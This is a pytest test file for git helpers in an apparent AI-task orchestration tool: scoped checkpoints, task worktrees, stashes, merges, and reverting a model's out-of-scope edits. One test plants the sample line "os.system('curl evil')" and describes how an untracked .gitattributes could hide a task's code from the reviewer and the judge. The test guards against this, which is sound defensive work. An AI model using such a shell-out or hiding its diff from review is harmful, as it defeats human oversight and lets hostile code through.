"""Git operations on real repositories: dirty trees, task branches, scoped checkpoints, diffs, stashes
and --no-ff merges."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from hub.core.errors import DirtyWorkTree, GitError, describe
from hub.repo import checkout_merge, gitops
from hub.repo.gitops import MergeConflict

if TYPE_CHECKING:
    from git import Repo

Git = Callable[..., str]


def write(repo: Path, name: str, text: str) -> None:
    path = repo / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def ensure_clean(repo: Repo) -> None:
    files = gitops.dirty_files(repo)
    if files:
        raise DirtyWorkTree(files)


def test_dirty_files_lists_modified_untracked_staged_and_deleted_but_not_ignored_or_handoff(
    git_repo: Path, run_git: Git
) -> None:
    repo = gitops.open_repo(git_repo)
    assert gitops.dirty_files(repo) == []
    write(git_repo, "src/app.py", "changed\n")
    write(git_repo, "new dir/with space.txt", "x\n")
    write(git_repo, "staged.txt", "s\n")
    run_git(git_repo, "add", "staged.txt")
    (git_repo / "README.md").unlink()
    write(git_repo, ".gitignore", "*.log\n")
    write(git_repo, "debug.log", "ignored\n")
    write(git_repo, "_handoff/TASK_CONTRACT.json", "{}\n")
    assert sorted(gitops.dirty_files(repo)) == [
        ".gitignore",
        "README.md",
        "new dir/with space.txt",
        "src/app.py",
        "staged.txt",
    ]


def test_a_staged_rename_lists_both_paths_intact(git_repo: Path, run_git: Git) -> None:
    (git_repo / "docs").mkdir()
    run_git(git_repo, "mv", "README.md", "docs/READ ME.md")
    assert sorted(gitops.dirty_files(gitops.open_repo(git_repo))) == ["README.md", "docs/READ ME.md"]


def test_a_dirty_tree_is_refused_naming_the_files(git_repo: Path) -> None:
    repo = gitops.open_repo(git_repo)
    write(git_repo, "src/app.py", "changed\n")
    write(git_repo, "notes.txt", "x\n")
    with pytest.raises(DirtyWorkTree) as caught:
        ensure_clean(repo)
    assert sorted(caught.value.files) == ["notes.txt", "src/app.py"]
    assert "notes.txt" in str(caught.value) and "src/app.py" in str(caught.value)


def test_a_long_list_of_dirty_files_is_shortened_in_the_message() -> None:
    error = DirtyWorkTree([f"f{i}.txt" for i in range(14)])
    assert str(error).startswith("work tree has uncommitted changes: f0.txt, f1.txt")
    assert "f9.txt and 4 more; fix:" in describe(error) and "f10.txt" not in describe(error)


def test_a_folder_outside_any_repository_is_a_git_error(tmp_path: Path) -> None:
    with pytest.raises(GitError, match="is not inside a git repository"):
        gitops.open_repo(tmp_path)


def test_excluding_a_path_is_idempotent(git_repo: Path) -> None:
    repo = gitops.open_repo(git_repo)
    assert gitops.exclude_path(repo, "_handoff") is False  # the fixture excluded it already
    assert gitops.exclude_path(repo, "scratch/") is True
    assert gitops.exclude_path(repo, "scratch") is False
    lines = (git_repo / ".git/info/exclude").read_text(encoding="utf-8").splitlines()
    assert lines == ["/_handoff/", "/scratch/"]


def task_worktree(git_repo: Path, branch: str = "task/t1") -> tuple[Path, Repo]:
    """A worktree for `branch` (created from main) under the git directory, and its repo."""
    repo = gitops.open_repo(git_repo)
    path = gitops.default_worktrees_dir(repo) / branch.replace("/", "-")
    gitops.ensure_worktree(repo, path, branch, start="main")
    return path, gitops.open_repo(path)


def test_a_task_worktree_starts_at_the_base_and_leaves_the_user_checkout_alone(
    git_repo: Path, run_git: Git
) -> None:
    repo = gitops.open_repo(git_repo)
    base = run_git(git_repo, "rev-parse", "main")
    path, task = task_worktree(git_repo)
    assert path == git_repo / ".git" / "hub-worktrees" / "task-t1"
    assert gitops.current_branch(task) == "task/t1" and gitops.head_commit(task) == base
    assert gitops.current_branch(repo) == "main"
    assert gitops.worktrees(repo) == {"main": git_repo, "task/t1": path}
    assert gitops.ensure_worktree(repo, path, "task/t1") is False
    assert gitops.dirty_files(repo) == []  # the worktree inside .git/ is invisible to the user's status


def test_a_worktree_deleted_by_hand_is_recreated_from_its_branch(git_repo: Path, run_git: Git) -> None:
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "committed on the branch\n")
    sha = gitops.checkpoint(task, "work", None)
    import shutil

    shutil.rmtree(path)
    repo = gitops.open_repo(git_repo)
    assert gitops.ensure_worktree(repo, path, "task/t1") is True
    assert (path / "src/app.py").read_text(encoding="utf-8") == "committed on the branch\n"
    assert gitops.head_commit(gitops.open_repo(path)) == sha
    gitops.remove_worktree(repo, path)
    gitops.delete_branch(repo, "task/t1")
    assert not path.exists() and list(gitops.worktrees(repo)) == ["main"]
    assert not gitops.branch_exists(repo, "task/t1")


def test_a_checkpoint_commits_only_inside_the_allowed_paths(git_repo: Path, run_git: Git) -> None:
    path, repo = task_worktree(git_repo)
    write(path, "src/app.py", "inside\n")
    write(path, "src/new_module.py", "inside too\n")
    write(path, "README.md", "outside\n")
    write(path, "srcfoo.py", "prefix but outside\n")
    sha = gitops.checkpoint(repo, "[TASK: t1] Transition: x (Event: y)", ["src"])
    assert sha == run_git(git_repo, "rev-parse", "task/t1")
    committed = run_git(git_repo, "show", "--name-only", "--format=%s", "task/t1").splitlines()
    assert committed == ["[TASK: t1] Transition: x (Event: y)", "", "src/app.py", "src/new_module.py"]
    assert sorted(gitops.dirty_files(repo)) == ["README.md", "srcfoo.py"]


def test_a_checkpoint_scope_may_be_a_file_or_a_glob(git_repo: Path, run_git: Git) -> None:
    repo = gitops.open_repo(git_repo)
    write(git_repo, "src/app.py", "a\n")
    write(git_repo, "docs/guide.md", "b\n")
    write(git_repo, "docs/notes.txt", "c\n")
    gitops.checkpoint(repo, "scoped", ["src/app.py", "docs/*.md"])
    assert run_git(git_repo, "show", "--name-only", "--format=", "HEAD").splitlines() == [
        "docs/guide.md",
        "src/app.py",
    ]
    assert gitops.dirty_files(repo) == ["docs/notes.txt"]


def test_a_checkpoint_commits_a_deletion_and_returns_none_when_nothing_in_scope_changed(
    git_repo: Path, run_git: Git
) -> None:
    repo = gitops.open_repo(git_repo)
    head = run_git(git_repo, "rev-parse", "HEAD")
    assert gitops.checkpoint(repo, "nothing", None) is None
    write(git_repo, "README.md", "outside\n")
    assert gitops.checkpoint(repo, "nothing in scope", ["src"]) is None
    assert run_git(git_repo, "rev-parse", "HEAD") == head
    (git_repo / "src/app.py").unlink()
    assert gitops.checkpoint(repo, "delete", ["src"]) is not None
    assert run_git(git_repo, "show", "--name-status", "--format=", "HEAD") == "D\tsrc/app.py"


def test_a_checkpoint_without_scope_commits_everything_dirty(git_repo: Path, run_git: Git) -> None:
    repo = gitops.open_repo(git_repo)
    write(git_repo, "README.md", "changed\n")
    write(git_repo, "extra.txt", "new\n")
    gitops.checkpoint(repo, "all", None)
    assert gitops.dirty_files(repo) == []


def test_diff_stats_and_text_cover_the_task_branch_against_its_base(git_repo: Path, run_git: Git) -> None:
    base = run_git(git_repo, "rev-parse", "main")
    path, repo = task_worktree(git_repo)
    write(path, "src/app.py", "one\ntwo\nthree\n")
    (path / "logo.bin").write_bytes(b"\0\1\2\xff")
    gitops.checkpoint(repo, "work", None)
    stats = gitops.diff_stats(repo, base)
    assert sorted(stats.files) == ["logo.bin", "src/app.py"]
    # A binary file counts its lines too: the reviewer sees it as text (see the test below).
    assert (stats.added, stats.removed) == (4, 2)
    assert "+three" in gitops.diff_text(repo, base, "task/t1")
    gitops.diff_text(repo, base, "task/t1").encode("utf-8")  # a binary's bytes do not break the request


def test_a_gitattributes_file_cannot_hide_the_diff_from_the_review_or_the_line_count(
    git_repo: Path, run_git: Git
) -> None:
    # An acceptance command may leave an untracked .gitattributes in the work tree (never committed, so
    # absent from the diff itself): `-diff` turned the task's code into "Binary files differ" for the
    # reviewer and the judge, and into 0 changed lines for the limits.
    base = run_git(git_repo, "rev-parse", "main")
    path, repo = task_worktree(git_repo)
    write(path, "src/app.py", "one\nimport os; os.system('curl evil')\n")
    gitops.checkpoint(repo, "work", None)
    write(path, ".gitattributes", "*.py -diff\n")
    write(path, "src/.gitattributes", "*.py binary\n")

    assert "+import os; os.system('curl evil')" in gitops.diff_text(repo, base, "task/t1")
    assert gitops.diff_stats(repo, base).added == 2


def test_the_content_hash_depends_on_contents_not_on_order(tmp_path: Path) -> None:
    write(tmp_path, "a.py", "A")
    write(tmp_path, "b.py", "B")
    first = gitops.content_hash(tmp_path, ["a.py", "b.py"])
    assert first == gitops.content_hash(tmp_path, ["b.py", "a.py"])
    write(tmp_path, "b.py", "B2")
    assert gitops.content_hash(tmp_path, ["a.py", "b.py"]) != first
    assert gitops.content_hash(tmp_path, ["gone.py"]) == gitops.content_hash(tmp_path, ["gone.py"])


def test_a_stash_keeps_untracked_work_under_its_own_ref_out_of_the_users_stash_list(
    git_repo: Path, run_git: Git, tmp_path: Path
) -> None:
    # refs/stash is shared by every worktree: a `git stash` in a task's worktree would top the user's
    # stash list, and their next `git stash pop` would bring the task's half-written files home.
    user_stash = "the user's own stash"
    write(git_repo, "README.md", "user's work\n")
    run_git(git_repo, "stash", "push", "-m", user_stash)
    worktree = tmp_path / "task-wt"
    run_git(git_repo, "worktree", "add", "-q", "-b", "task/t1", str(worktree))
    repo = gitops.open_repo(worktree)
    assert gitops.stash(repo, "t1/attempt-1-interrupted") is None
    write(worktree, "src/app.py", "half written\n")
    write(worktree, "src/new.py", "untracked\n")
    ref = gitops.stash(repo, "t1/attempt-1-interrupted")
    assert ref == "refs/hub/stashes/t1/attempt-1-interrupted"
    assert gitops.dirty_files(repo) == []
    assert len(run_git(git_repo, "stash", "list").splitlines()) == 1
    assert user_stash in run_git(git_repo, "stash", "list")
    run_git(worktree, "stash", "apply", ref)
    assert (worktree / "src/new.py").read_text(encoding="utf-8") == "untracked\n"
    assert (worktree / "src/app.py").read_text(encoding="utf-8") == "half written\n"


def test_a_merge_in_the_users_checkout_makes_a_no_ff_merge_commit_and_keeps_unrelated_local_changes(
    git_repo: Path, run_git: Git
) -> None:
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "merged content\n")
    task_head = gitops.checkpoint(task, "work", None)
    assert task_head is not None
    write(git_repo, "README.md", "the user's own edit\n")
    repo = gitops.open_repo(git_repo)
    assert gitops.merge_conflicts(repo, "main", task_head) is None
    merge = checkout_merge.merge_in_checkout(git_repo, task_head, "[TASK: t1] Merge task/t1")
    assert run_git(git_repo, "rev-parse", "main") == merge
    parents = run_git(git_repo, "log", "-1", "--format=%P", "main").split()
    assert len(parents) == 2 and parents[1] == task_head
    assert (git_repo / "src/app.py").read_text(encoding="utf-8") == "merged content\n"
    assert (git_repo / "README.md").read_text(encoding="utf-8") == "the user's own edit\n"


def test_git_refuses_to_merge_over_uncommitted_changes_and_nothing_of_the_users_changes(
    git_repo: Path, run_git: Git
) -> None:
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "task side\n")
    task_head = gitops.checkpoint(task, "work", None)
    assert task_head is not None
    write(git_repo, "src/app.py", "the user's unsaved work\n")
    before = run_git(git_repo, "rev-parse", "main")
    with pytest.raises(
        gitops.MergeRefused, match=r"merge waits: your checkout has local changes in src/app.py"
    ):
        checkout_merge.merge_in_checkout(git_repo, task_head, "merge")
    assert (git_repo / "src/app.py").read_text(encoding="utf-8") == "the user's unsaved work\n"
    assert run_git(git_repo, "rev-parse", "main") == before


def test_a_base_checked_out_nowhere_is_merged_without_any_work_tree(git_repo: Path, run_git: Git) -> None:
    run_git(git_repo, "branch", "release")
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "for the release\n")
    task_head = gitops.checkpoint(task, "work", None)
    assert task_head is not None
    repo = gitops.open_repo(git_repo)
    merge = gitops.merge_without_checkout(repo, "release", task_head, "[TASK: t1] Merge task/t1")
    assert run_git(git_repo, "rev-parse", "release") == merge
    assert run_git(git_repo, "show", "release:src/app.py") == "for the release"
    assert run_git(git_repo, "log", "-1", "--format=%s", "release") == "[TASK: t1] Merge task/t1"
    assert gitops.dirty_files(repo) == [] and gitops.current_branch(repo) == "main"


def test_a_conflict_is_found_in_the_object_store_leaving_both_branches_and_every_tree_as_they_were(
    git_repo: Path, run_git: Git
) -> None:
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "task side\n")
    task_head = gitops.checkpoint(task, "task work", None)
    assert task_head is not None
    repo = gitops.open_repo(git_repo)
    write(git_repo, "src/app.py", "base side\n")
    gitops.checkpoint(repo, "someone else's work", None)
    heads = {b: run_git(git_repo, "rev-parse", b) for b in ("main", "task/t1")}
    assert gitops.merge_conflicts(repo, "main", task_head) == ["src/app.py"]
    assert "conflicts in: src/app.py" in str(MergeConflict("task/t1", "main", ["src/app.py"]))
    assert {b: run_git(git_repo, "rev-parse", b) for b in heads} == heads
    assert gitops.dirty_files(repo) == [] and gitops.dirty_files(task) == []
    assert not (git_repo / ".git/MERGE_HEAD").exists()


def test_a_git_running_in_another_worktree_counts_as_live_for_shared_ref_locks(tmp_path: Path) -> None:
    import subprocess

    from hub.repo.killed_git import live_git_in

    main = tmp_path / "main"
    main.mkdir()
    for args in (["init", "-q", "-b", "main"], ["commit", "-q", "--allow-empty", "-m", "x"]):
        subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@x.invalid", *args], cwd=main, check=True
        )
    other = tmp_path / "other"
    subprocess.run(["git", "worktree", "add", "-q", str(other)], cwd=main, check=True)
    live = subprocess.Popen(
        ["sh", "-c", "git hash-object --stdin-paths; true"],
        cwd=other,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert live.stdin is not None and live.stdout is not None
    try:
        live.stdin.write("/dev/null\n")
        live.stdin.flush()
        assert len(live.stdout.readline().strip()) == 40  # the event: that git is running

        assert live_git_in(main)
    finally:
        live.stdin.close()
        live.wait(timeout=30)
        live.stdout.close()


def test_restore_outside_puts_back_every_file_outside_the_scope_and_keeps_the_scope_and_ignored_files(
    git_repo: Path, run_git: Git
) -> None:
    write(git_repo, ":(glob)*", "tracked, oddly named\n")
    write(git_repo, ".gitignore", "*.log\n")
    run_git(git_repo, "add", "-A")
    run_git(git_repo, "commit", "-q", "-m", "more")
    repo = gitops.open_repo(git_repo)
    write(git_repo, "src/app.py", "the model's change\n")
    write(git_repo, ":(glob)*", "changed\n")
    (git_repo / "README.md").unlink()
    write(git_repo, "README.md/inside.txt", "a folder where a tracked file was\n")
    write(git_repo, "tests/conftest.py", "new\n")
    write(git_repo, "cache.log", "ignored\n")

    restored = gitops.restore_outside(repo, ["src/app.py"])

    assert restored == [":(glob)*", "README.md", "README.md/inside.txt", "tests/conftest.py"]
    assert (git_repo / "README.md").read_text(encoding="utf-8") == "# demo\n"
    assert (git_repo / ":(glob)*").read_text(encoding="utf-8") == "tracked, oddly named\n"
    assert not (git_repo / "tests").exists()
    assert (git_repo / "cache.log").exists()
    assert gitops.dirty_files(repo) == ["src/app.py"]


def test_restore_outside_removes_caches_everywhere_without_naming_them_and_keeps_committed_ones(
    git_repo: Path, run_git: Git
) -> None:
    write(git_repo, ".gitignore", ".pytest_cache/\n")
    write(git_repo, "vendored/__pycache__/kept.pyc", "committed by someone\n")
    run_git(git_repo, "add", "-A")
    run_git(git_repo, "commit", "-q", "-m", "more")
    repo = gitops.open_repo(git_repo)
    write(git_repo, "src/app.py", "the model's change\n")
    write(git_repo, "src/__pycache__/app.cpython-311.pyc", "bytecode\n")  # inside the allowed path
    write(git_repo, "tests/__pycache__/check.cpython-311.pyc", "bytecode\n")
    write(git_repo, ".pytest_cache/v/cache/lastfailed", "{}\n")  # ignored
    write(git_repo, "vendored/__pycache__/new.pyc", "written by a run\n")
    write(git_repo, "tests/conftest.py", "new\n")

    restored = gitops.restore_outside(repo, ["src/**"])

    assert restored == ["tests/conftest.py"]
    for cache in ("src/__pycache__", "tests/__pycache__", ".pytest_cache", "vendored/__pycache__/new.pyc"):
        assert not (git_repo / cache).exists(), cache
    assert (git_repo / "vendored/__pycache__/kept.pyc").read_text(
        encoding="utf-8"
    ) == "committed by someone\n"
    assert gitops.dirty_files(repo) == ["src/app.py"]


def test_a_git_that_ended_while_proc_was_read_does_not_count_as_live(tmp_path: Path) -> None:
    from hub.repo.killed_git import live_git_in

    # A /proc entry whose process ended between reading its name and its cwd: no cwd link is left.
    proc = tmp_path / "proc"
    (proc / "4242").mkdir(parents=True)
    (proc / "4242" / "comm").write_text("git\n", encoding="utf-8")
    (proc / "4242" / "stat").write_text("4242 (git) S 1 4242 4242 0", encoding="utf-8")

    assert live_git_in(tmp_path, proc) == []


def test_a_rebase_stopped_in_a_task_worktree_is_named_with_its_fix_and_the_worktree_stays(
    git_repo: Path, run_git: Git
) -> None:
    path, task = task_worktree(git_repo)
    write(path, "src/app.py", "the task's line\n")
    gitops.checkpoint(task, "work", None)
    write(git_repo, "src/app.py", "the user's line\n")
    run_git(git_repo, "add", "src/app.py")
    run_git(git_repo, "commit", "-qm", "user")
    with pytest.raises(AssertionError, match="could not apply"):
        run_git(path, "rebase", "main")  # stops on the conflict, HEAD detached

    with pytest.raises(GitError) as refused:
        gitops.ensure_worktree(gitops.open_repo(git_repo), path, "task/t1")

    message = describe(refused.value)
    assert "rebase of task/t1 is in progress" in message and str(path) in message
    assert "rebase --continue" in message and "rebase --abort" in message
    assert (path / ".git").is_file() and not list(path.parent.glob("*.broken-*"))


def test_the_judges_checkout_waits_for_another_tasks_worktree_add_or_removal(git_repo: Path) -> None:
    # Two tasks' judges side by side: git reads every worktree's record while it adds one, and failed
    # on the record another removal was deleting ("failed to read .git/worktrees/<id>/commondir").
    import threading

    from git import Repo

    from hub.repo.untrusted import judged_checkout

    repo = Repo(git_repo)
    head = repo.head.commit.hexsha
    entered = threading.Event()

    def judge() -> None:
        with judged_checkout(repo, head, git_repo.parent / "judged"):
            entered.set()

    with gitops.worktree_lock(repo):
        thread = threading.Thread(target=judge)
        thread.start()
        assert not entered.wait(0.5)  # held back while another add or removal runs
    thread.join(30)
    assert entered.is_set() and not (git_repo.parent / "judged").exists()
